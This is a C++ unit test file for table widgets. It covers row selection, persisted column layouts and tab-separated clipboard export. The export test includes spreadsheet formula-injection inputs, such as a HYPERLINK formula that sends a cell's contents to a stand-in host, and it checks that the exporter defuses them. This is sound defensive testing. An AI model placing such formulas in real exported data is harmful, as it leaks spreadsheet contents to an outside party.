#include <catch2/catch.hpp>

#include <array>
#include <set>

#include "client/widgets/row_selection.hpp"
#include "client/widgets/table_layout.hpp"
#include "client/widgets/table_text.hpp"

using namespace qudao::ui;

namespace {

constexpr std::array<std::string_view, 4> kKeys{"code", "name", "place", "revenue"};

}  // namespace

TEST_CASE("rows are selected as ranges") {
    RowSelection rows;
    CHECK(rows.empty());
    rows.set(7, 3);
    CHECK(rows.count() == 5);
    CHECK(rows.contains(3));
    CHECK(rows.contains(7));
    CHECK_FALSE(rows.contains(8));
    rows.add(8, 10);
    CHECK(rows.ranges().size() == 1);
    rows.toggle(5);
    CHECK(rows.ranges() == std::vector<RowSelection::Range>{{3, 4}, {6, 10}});
    rows.toggle(5);
    CHECK(rows.ranges().size() == 1);
    rows.set(0, 999'999);
    CHECK(rows.count() == 1'000'000);
    rows.clear();
    CHECK(rows.count() == 0);
}

TEST_CASE("any way of selecting gives what a set of numbers would") {
    std::uint32_t seed = 20261118;
    const auto next = [&](std::uint32_t below) { return (seed = seed * 1664525U + 1013904223U) / 65536U % below; };
    RowSelection rows;
    std::set<std::int64_t> expected;
    for (int turn = 0; turn < 3000; ++turn) {
        const std::int64_t a = next(40), b = next(40);
        if (turn % 7 == 0) {
            rows.set(a, b);
            expected.clear();
            for (std::int64_t i = std::min(a, b); i <= std::max(a, b); ++i) expected.insert(i);
        } else if (turn % 3 == 1) {
            rows.toggle(a);
            if (expected.erase(a) == 0) expected.insert(a);
        } else {
            rows.add(a, b);
            for (std::int64_t i = std::min(a, b); i <= std::max(a, b); ++i) expected.insert(i);
        }
        REQUIRE(rows.count() == static_cast<std::int64_t>(expected.size()));
        for (std::int64_t i = 0; i < 40; ++i) REQUIRE(rows.contains(i) == (expected.count(i) != 0));
        for (std::size_t i = 1; i < rows.ranges().size(); ++i) REQUIRE(rows.ranges()[i - 1].last + 1 < rows.ranges()[i].first);
    }
}

TEST_CASE("a table's arrangement is kept as text") {
    TableLayout layout;
    layout.meet(kKeys);
    CHECK(layout.text() == "code;name;place;revenue");
    CHECK(layout.move("revenue", -1, kKeys));
    layout.hide("name", true);
    layout.resize("code", 120.5F);
    CHECK(layout.text() == "code:12050;-name;revenue;place");
    TableLayout back = TableLayout::parse(layout.text());
    back.meet(kKeys);
    CHECK(back.text() == layout.text());
    CHECK(back.order(kKeys) == std::vector<int>{0, 1, 3, 2});
    CHECK(back.find("code")->size == Approx(120.5F));
}

TEST_CASE("the first column stays first and is seen") {
    TableLayout layout = TableLayout::parse("revenue;-code:9;name");
    layout.meet(kKeys);
    CHECK(layout.order(kKeys).front() == 0);
    CHECK_FALSE(layout.find("code")->hidden);
    layout.hide("code", true);
    CHECK_FALSE(layout.find("code")->hidden);
    CHECK_FALSE(layout.move("code", 1, kKeys));
    while (layout.move("place", -1, kKeys)) {
    }
    CHECK(layout.order(kKeys)[1] == 2);
}

TEST_CASE("columns jump over hidden ones, and stop at the ends") {
    TableLayout layout;
    layout.meet(kKeys);
    layout.hide("place", true);
    CHECK(layout.move("name", 1, kKeys));
    CHECK(layout.order(kKeys) == std::vector<int>{0, 2, 3, 1});
    CHECK_FALSE(layout.move("name", 1, kKeys));
}

TEST_CASE("a column the view adds comes where the view has it; one it leaves out keeps its place") {
    TableLayout layout = TableLayout::parse("code;revenue;name");
    layout.meet(kKeys);
    CHECK(layout.order(kKeys) == std::vector<int>{0, 3, 1, 2});
    constexpr std::array<std::string_view, 2> kFew{"code", "name"};
    layout.meet(kFew);
    CHECK(layout.order(kFew) == std::vector<int>{0, 1});
    layout.meet(kKeys);
    CHECK(layout.order(kKeys) == std::vector<int>{0, 3, 1, 2});
}

TEST_CASE("whatever stands in the browser's storage is read") {
    for (const std::string_view text : {";;;", "-", "a:;b:x;c:-5", "code;code;code", ":::", "a:99999999999"}) {
        CAPTURE(text);
        TableLayout layout = TableLayout::parse(text);
        layout.meet(kKeys);
        CHECK(layout.order(kKeys).size() == kKeys.size());
        CHECK(layout.order(kKeys).front() == 0);
    }
    CHECK(TableLayout::parse("a:x").find("a")->size == 0);
}

TEST_CASE("a table for the clipboard is what a spreadsheet takes") {
    TableText table;
    table.columns = {{"code", "客户编码", false}, {"revenue", "收入", true}};
    table.rows = {{"0771000000001", "1,234.50"}, {"a\tb", "无数据"}, {"say \"x\"\nno", "−3"}};
    CHECK(to_tsv(table) == "客户编码\t收入\n0771000000001\t1234.50\n\"a\tb\"\t无数据\n\"say \"\"x\"\"\nno\"\t-3\n");
    table.rows = {{"short"}};
    CHECK(to_tsv(table) == "客户编码\t收入\nshort\t\n");
    // No formula comes out of the clipboard, as none comes out of a .csv.
    table.rows = {{"=HYPERLINK(\"http://x/?\"&A1)", "=1"}, {"@SUM(1)", "+12"}, {"-2.5", "-cmd"}, {"＝1+1", "\t=1"}};
    CHECK(to_tsv(table) == "客户编码\t收入\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"\t'=1\n'@SUM(1)\t12\n-2.5\t'-cmd\n'＝1+1\t\"'\t=1\"\n");
}

TEST_CASE("figures are told from what only looks like them") {
    CHECK(plain_figure("1,234,567") == "1234567");
    CHECK(plain_figure("+12") == "12");
    CHECK(plain_figure("\xE2\x88\x92""3.25") == "-3.25");
    CHECK(plain_figure("0") == "0");
    for (const std::string_view text : {"", "12,34", "1,2345", "1.", ".5", "12a", "1 2", "-", ",123", "无数据", "1,"}) {
        CAPTURE(text);
        CHECK(plain_figure(text).empty());
    }
}
